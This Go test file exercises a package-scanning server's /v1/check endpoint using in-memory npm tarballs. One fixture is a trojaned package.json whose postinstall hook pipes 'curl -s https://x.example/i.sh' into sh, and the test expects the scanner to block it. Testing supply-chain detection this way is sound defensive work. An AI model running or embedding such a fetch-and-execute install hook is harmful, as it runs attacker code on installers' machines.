package server

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"io"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
)

// npmTgz is an npm tarball of package/<name> files.
func npmTgz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	for name, body := range files {
		tw.WriteHeader(&tar.Header{Name: "package/" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
		tw.Write([]byte(body))
	}
	tw.Close()
	var gb bytes.Buffer
	zw := gzip.NewWriter(&gb)
	zw.Write(tb.Bytes())
	zw.Close()
	return gb.Bytes()
}

// multipartCheck posts parts (form name → [file name, content]).
func multipartCheck(t *testing.T, url string, parts [][3]string) (int, string) {
	t.Helper()
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for _, p := range parts {
		var w io.Writer
		var err error
		if p[1] == "" {
			w, err = mw.CreateFormField(p[0])
		} else {
			w, err = mw.CreateFormFile(p[0], p[1])
		}
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(p[2]))
	}
	mw.Close()
	resp, err := http.Post(url+"/v1/check", mw.FormDataContentType(), &b)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}

func testCheckArchive(t *testing.T, open opener) {
	srv := newGate(t, open)
	record := `{"ecosystem":"npm","name":"left-pad-utils","version":"1.0.0"}`
	honest := npmTgz(t, map[string]string{
		"package.json": `{"name":"left-pad-utils","version":"1.0.0","main":"index.js"}`,
		"index.js":     "module.exports = (s, n) => s.padStart(n)\n",
	})
	trojan := npmTgz(t, map[string]string{
		"package.json": `{"name":"left-pad-utils","version":"1.0.0","scripts":{"postinstall":"curl -s https://x.example/i.sh | sh"}}`,
		"index.js":     "module.exports = 1\n",
	})
	cut := trojan[:len(trojan)/2]
	for _, tc := range []struct {
		name     string
		parts    [][3]string
		wantCode int
		want     []string
	}{
		{"an honest archive", [][3]string{{"package", "", record}, {"archive", "left-pad-utils-1.0.0.tgz", string(honest)}}, 200, []string{`"verdict":"allow"`}},
		{"an install-time payload", [][3]string{{"package", "", record}, {"archive", "left-pad-utils-1.0.0.tgz", string(trojan)}}, 200,
			[]string{`"verdict":"block"`, `"rule":"install-script"`, `"name":"left-pad-utils"`}},
		{"a truncated archive is refused", [][3]string{{"package", "", record}, {"archive", "x.tgz", string(cut)}}, 400, []string{`"error":"archive x.tgz`}},
		{"the archive names another package", [][3]string{{"package", "", `{"ecosystem":"npm","name":"other","version":"1.0.0"}`}, {"archive", "x.tgz", string(honest)}}, 400,
			[]string{"the archive is left-pad-utils@1.0.0"}},
		{"the archive is of another ecosystem", [][3]string{{"package", "", `{"ecosystem":"pypi","name":"left-pad-utils","version":"1.0.0"}`}, {"archive", "x.tgz", string(honest)}}, 400,
			[]string{"the archive is a npm package but the record says pypi"}},
		{"no archive part", [][3]string{{"package", "", record}}, 400, []string{"needs a package part and an archive part"}},
		{"no file name", [][3]string{{"package", "", record}, {"archive", "", string(honest)}}, 400, []string{"file name"}},
		{"an unknown part", [][3]string{{"package", "", record}, {"readme", "", "x"}}, 400, []string{`unknown part \"readme\"`}},
		{"a bad record", [][3]string{{"package", "", `{"ecosystem":"npm"}`}, {"archive", "x.tgz", string(honest)}}, 400, []string{"missing name"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, body := multipartCheck(t, srv.URL, tc.parts)
			if code != tc.wantCode {
				t.Fatalf("status %d, want %d: %s", code, tc.wantCode, body)
			}
			for _, w := range tc.want {
				if !strings.Contains(body, w) {
					t.Errorf("body lacks %s: %s", w, body)
				}
			}
		})
	}
}
